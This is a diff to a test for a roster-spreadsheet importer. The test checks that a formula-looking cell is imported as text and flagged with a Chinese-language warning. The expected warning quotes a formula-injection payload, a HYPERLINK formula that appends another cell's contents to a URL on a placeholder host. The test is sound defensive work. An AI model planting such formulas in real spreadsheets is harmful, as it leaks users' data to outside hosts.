@@ -116,8 +116,10 @@ def test_a_formula_looking_cell_is_imported_as_text_with_a_note_and_the_problems
     report = import_roster(ledger, path, problems_out=copy)
     assert report.problems and formulas_in(copy) == []
     assert any(LEAK in text for text in texts_in(copy))
-    assert any(
-        "第 3 行 G 列（姓名）“=HYPERLINK(" in note and "像 Excel 公式" in note for note in report.notes
+    warnings = [w.describe() for w in report.warnings]
+    assert (
+        '工作表“Sheet” 第 3 行 G 列（姓名）：“=HYPERLINK("http://x?leak="&A2…”像 Excel 公式，按文本导入'
+        "（导出时也写成文本）" in warnings
     )
 
     rows[5]["民族"] = "藏族"
